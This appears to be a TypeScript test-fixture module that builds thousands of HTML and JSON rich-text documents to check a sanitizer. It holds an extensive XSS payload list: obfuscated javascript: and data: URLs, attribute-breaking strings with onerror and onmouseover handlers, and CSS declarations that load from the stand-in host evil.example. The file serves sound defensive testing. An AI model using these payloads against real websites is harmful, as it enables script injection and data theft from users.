import { attackMarkup } from '../rich-text/attacks.ts';

/** Thousands of HTML and JSON documents. If an attack works, it calls `pwned()` or sends a request to `evil.example`. */
export function attackDocuments(): unknown[] {
  return [
    ...markupDocuments(),
    ...urlDocuments(),
    ...breakerDocuments(),
    ...styleDocuments(),
    ...jsonDocuments(),
  ];
}

const script = 'javascript:pwned()';
const hidden = (text: string, hide: (character: string) => string) => text.replace(/[a-z:]/g, hide);

/** URLs that run scripts or hide their target, written for an HTML attribute. */
const scriptUrls = [
  script,
  'JaVaScRiPt:pwned()',
  'javascript://listed.example/%0apwned()',
  'javascript:/*listed.example*/pwned()',
  ' \n\tjavascript:pwned()',
  'java\tscript:pwned()',
  'java\nscript:pwned()',
  'java\rscript:pwned()',
  'javascript\t:pwned()',
  'java&Tab;script:pwned()',
  'java&NewLine;script&colon;pwned&lpar;&rpar;',
  'java&#0;script:pwned()',
  'java\0script:pwned()',
  ...[1, 8, 11, 14, 27, 31, 127, 160, 0x2028, 0xfeff].map((code) => `&#${code};javascript:pwned()`),
  ...[1, 31, 0xad, 0x200b].map((code) => `java&#${code};script:pwned()`),
  hidden(script, (character) => `&#${character.charCodeAt(0)};`),
  hidden(script, (character) => `&#${character.charCodeAt(0)}`),
  hidden(script, (character) => `&#${String(character.charCodeAt(0)).padStart(7, '0')};`),
  hidden(script, (character) => `&#x${character.charCodeAt(0).toString(16)};`),
  hidden(script, (character) => `&#X${character.charCodeAt(0).toString(16).padStart(6, '0')}`),
  hidden(script, (character) => `%${character.charCodeAt(0).toString(16)}`),
  hidden(script, (character) => `\\u00${character.charCodeAt(0).toString(16)}`),
  'javascript&amp;colon;pwned()',
  'ｊａｖａｓｃｒｉｐｔ:pwned()',
  'javaſcript:pwned()',
  'vbscript:pwned()',
  'livescript:pwned()',
  'view-source:javascript:pwned()',
  'feed:javascript:pwned()',
  'jar:javascript:pwned()',
  'data:text/html,<script>parent.pwned()</script>',
  'DATA:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQoKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg xmlns=&quot;http://www.w3.org/2000/svg&quot; onload=&quot;pwned()&quot;/>',
  'data:application/xhtml+xml,<script xmlns=&quot;http://www.w3.org/1999/xhtml&quot;>pwned()</script>',
  'data:,x',
  'blob:https://board.example/1',
  'filesystem:https://board.example/temporary/x.html',
  'about:srcdoc',
  'file:///etc/passwd',
  '//evil.example/x',
  '/\\evil.example/x',
  '\\\\evil.example/x',
  '/.//evil.example/x',
  '/assets/..//evil.example/x',
  '/\t/evil.example/x',
  '&#47;&#47;evil.example/x',
  '///evil.example/x',
  'https://user:pw@evil.example/x',
  'https://board.example/jobs',
  'https://board.example./jobs',
  'https://BOARD.example:443/jobs',
  'https://x.board.example/jobs',
  'https://board。example/jobs',
];

/** Places for a URL. Documents may link to `listed.example`. */
const urlSlots: ((url: string) => string)[] = [
  (url) => `<a href="${url}">x</a>`,
  (url) => `<a href="https://listed.example" ping="${url}" xlink:href="${url}">x</a>`,
  (url) => `<map><area href="${url}"></map>`,
  (url) => `<img src="${url}">`,
  (url) => `<img src="/assets/a" srcset="${url} 1x" lowsrc="${url}" dynsrc="${url}" longdesc="${url}">`,
  (url) => `<picture><source srcset="${url}"><img src="/assets/a"></picture>`,
  (url) => `<image href="${url}" src="${url}">`,
  (url) => `<iframe src="${url}"></iframe>`,
  (url) => `<iframe src="https://listed.example/" srcdoc="${url}<script>parent.pwned()</script>"></iframe>`,
  (url) => `<div data-youtube-video><iframe src="${url}"></iframe></div>`,
  (url) =>
    `<div data-youtube-video="${url}"><iframe src="https://www.youtube.com/embed/a?x=${url}"></iframe></div>`,
  (url) => `<embed src="${url}"><object data="${url}"><param name="movie" value="${url}"></object>`,
  (url) =>
    `<form action="${url}"><button formaction="${url}">x</button><input type="image" src="${url}"></form>`,
  (url) =>
    `<link rel="stylesheet" href="${url}"><link rel="prefetch" href="${url}"><link rel="icon" href="${url}">`,
  (url) => `<base href="${url}"><a href="/x">x</a>`,
  (url) => `<meta http-equiv="refresh" content="0;url=${url}">`,
  (url) => `<script src="${url}"></script>`,
  (url) => `<svg><a xlink:href="${url}"><text>x</text></a><image href="${url}"/><use href="${url}#x"/></svg>`,
  (url) => `<svg><set attributeName="href" to="${url}"/><script href="${url}"></script></svg>`,
  (url) => `<math href="${url}"><mi xlink:href="${url}">x</mi></math>`,
  (url) => `<video src="${url}" poster="${url}"><track src="${url}"></video><audio src="${url}"></audio>`,
  (url) => `<table background="${url}"><tr background="${url}"><td background="${url}">x</table>`,
  (url) => `<body background="${url}"><blockquote cite="${url}">x</blockquote><del cite="${url}">x</del>`,
  (url) => `<p style="background:url('${url}')">x</p><ul style="list-style-image:url(${url})"><li>x</ul>`,
  (url) => `<style>@import "${url}"; * { background: url("${url}") }</style>x`,
  (url) => `<frameset><frame src="${url}"></frameset><html manifest="${url}"><applet code="${url}">x`,
];

/** Text that would close an attribute, an element, a comment or a declaration early. */
const breakers = [
  '" onmouseover="pwned()',
  "' onmouseover='pwned()",
  '` onmouseover=`pwned()',
  ' onmouseover=pwned() ',
  '/onfocus=pwned()/autofocus/tabindex=1/',
  '"><img src=x onerror=pwned()>',
  "'><img src=x onerror=pwned()>",
  '><script>pwned()</script>',
  '&quot; onmouseover=&quot;pwned()',
  '&quot;&gt;&lt;img src=x onerror=pwned()&gt;',
  '&amp;quot;><img src=x onerror=pwned()>',
  '</code></pre><img src=x onerror=pwned()>',
  '</title></style></textarea></noscript></template><img src=x onerror=pwned()>',
  '--><img src=x onerror=pwned()><!--',
  ']]><img src=x onerror=pwned()>',
  '\u2028" onmouseover="pwned()',
  '\0"\0onmouseover="pwned()',
  '\ud800" onmouseover="pwned()',
  '1;}</style><script>pwned()</script>',
  '{{constructor.constructor(&quot;pwned()&quot;)()}}',
];

/** Places for text. `@` becomes the text with double quotes, single quotes and no quotes. */
const textSlots = [
  '<img src="/assets/a" alt=@>',
  '<img src="/assets/a" title=@ width=@ height=@>',
  '<a href="https://listed.example" title=@ target=@ rel=@ class=@>x</a>',
  '<a href="https://listed.example/@">x</a>',
  '<a href="/@">x</a>',
  '<a href="mailto:a@b.example?subject=@">x</a>',
  '<pre><code class="language-@">x</code></pre>',
  '<pre class=@><code>@</code></pre>',
  '<ol start=@ type=@><li style=@>x</ol>',
  '<table><td colspan=@ rowspan=@ data-colwidth=@ style=@>@</table>',
  '<h2 id=@ name=@ style=@>@</h2>',
  '<div data-youtube-video=@><iframe src="https://youtu.be/abc" width=@ height=@ title=@></iframe></div>',
  '<iframe src="https://listed.example/?@" name=@ sandbox=@ allow=@ csp=@ loading=@></iframe>',
  '<span style="color: @">x</span>',
  '<p style="text-align: @">@</p>',
  '<!-- @ --><p>@</p>',
  '<@>x</@>',
  '<p @>x</p @>',
];

const declarations = [
  'background:url(//evil.example/x)',
  'background-image:url("javascript:pwned()")',
  'width:expression(pwned())',
  'wid\\74h:exp/**/ression(pwned())',
  'behavior:url(//evil.example/x.htc)',
  '-moz-binding:url(//evil.example/x.xml#a)',
  'position:fixed;inset:0;z-index:9999',
  'color:red;background:url(//evil.example/x)',
  'color:url(//evil.example/x)',
  'color:image-set("//evil.example/x" 1x)',
  'color:var(--x,url(//evil.example/x))',
  'color:attr(href)',
  'color:red!important;/*',
  'color:red}*{background:url(//evil.example/x)}',
  'color:r\\65 d;background:url(//evil.example/x)',
  'col\\6fr:red;content:url(//evil.example/x)',
  'text-align:center;cursor:url(//evil.example/x),auto',
  'text-align:center\\;background:url(//evil.example/x)',
  'text-align:"center;background:url(//evil.example/x)"',
  'text-align:center/*;*/;list-style:url(//evil.example/x)',
  '--x:url(//evil.example/x);background:var(--x)',
  'animation:x 1s;transition:all 1s',
  'border-image:url(//evil.example/x)',
  '@import url(//evil.example/x)',
  'color:rgb(0,0,0);;;:;background:url(&quot;//evil.example/x&quot;)',
];
const styled = [
  'p',
  'h1',
  'blockquote',
  'ul',
  'li',
  'pre',
  'td',
  'span',
  'a',
  'img',
  'iframe',
  'div',
  'font',
];

function markupDocuments(): string[] {
  return attackMarkup.flatMap((attack) => [
    attack,
    `<p>a ${attack} b</p>`,
    `<table><tr><td>${attack}`,
    `<b><a href="/x">${attack}`,
    `<pre><code>${attack}`,
    `<ul><li>${attack}<li>`,
    `<div data-youtube-video>${attack}</div>`,
    `<svg><desc>${attack}`,
    `<math><mi>${attack}`,
    `<noscript>${attack}</noscript>`,
  ]);
}

function urlDocuments(): string[] {
  return urlSlots.flatMap((slot) => scriptUrls.map(slot));
}

function breakerDocuments(): string[] {
  return textSlots.flatMap((slot) =>
    breakers.flatMap((breaker) =>
      ['"', "'", ''].map((quote) =>
        slot.replace(/(=?)@/g, (_, equals: string) => (equals ? `=${quote}${breaker}${quote}` : breaker)),
      ),
    ),
  );
}

function styleDocuments(): string[] {
  return declarations.flatMap((style) =>
    styled.map((tag) => `<${tag} src="/assets/a" href="https://listed.example" style="${style}">x</${tag}>`),
  );
}

function jsonDocuments(): unknown[] {
  const payloads = [...scriptUrls, ...breakers, ...declarations, ...attackMarkup].map(decodeEntities);
  return payloads.flatMap((value) =>
    jsonSlots(value).map((content) => ({ type: 'doc', content: [content] })),
  );
}

/** JSON has no entities, so the payload is the text that a browser would read from the HTML. */
function decodeEntities(text: string): string {
  return text
    .replace(/&#x([\da-f]+);?/gi, (_, digits: string) => String.fromCodePoint(Number.parseInt(digits, 16)))
    .replace(/&#(\d+);?/g, (_, digits: string) => String.fromCodePoint(Number(digits)))
    .replaceAll('&quot;', '"');
}

function jsonSlots(value: string): unknown[] {
  const paragraph = { type: 'paragraph', content: [{ type: 'text', text: 'x' }] };
  const marked = (type: string, attrs: object) => ({
    type: 'paragraph',
    content: [{ type: 'text', text: 'x', marks: [{ type, attrs }] }],
  });
  const cell = (attrs: object) => ({
    type: 'table',
    content: [{ type: 'tableRow', content: [{ type: 'tableCell', attrs, content: [paragraph] }] }],
  });
  return [
    marked('link', { href: value }),
    marked('link', { href: `https://listed.example/${value}` }),
    marked('link', { href: `/${value}` }),
    marked('link', { href: `#${value}` }),
    marked('link', { href: `mailto:${value}` }),
    marked('link', { href: '/a', title: value, target: value, rel: value, class: value }),
    marked('textStyle', { color: value }),
    marked(value, {}),
    { type: value },
    { type: 'image', attrs: { src: value } },
    { type: 'image', attrs: { src: `/assets/${value}`, alt: value, title: value } },
    { type: 'image', attrs: { src: '/assets/a', width: value } },
    { type: 'iframe', attrs: { src: value } },
    { type: 'iframe', attrs: { src: `https://listed.example/${value}` } },
    { type: 'iframe', attrs: { src: 'https://listed.example', height: value } },
    { type: 'youtube', attrs: { src: value } },
    { type: 'youtube', attrs: { src: `https://www.youtube.com/embed/${value}` } },
    { type: 'youtube', attrs: { src: `https://youtu.be/a?list=${value}`, start: value } },
    { type: 'codeBlock', attrs: { language: value }, content: [{ type: 'text', text: 'x' }] },
    { type: 'codeBlock', content: [{ type: 'text', text: value }] },
    { type: 'heading', attrs: { level: value } },
    { type: 'paragraph', attrs: { textAlign: value } },
    { type: 'paragraph', attrs: { [value]: value } },
    { type: 'paragraph', content: [{ type: 'text', text: value }] },
    { type: 'orderedList', attrs: { type: value }, content: [{ type: 'listItem', content: [paragraph] }] },
    cell({ colspan: value }),
    cell({ colwidth: [value] }),
    cell({ align: value }),
  ];
}
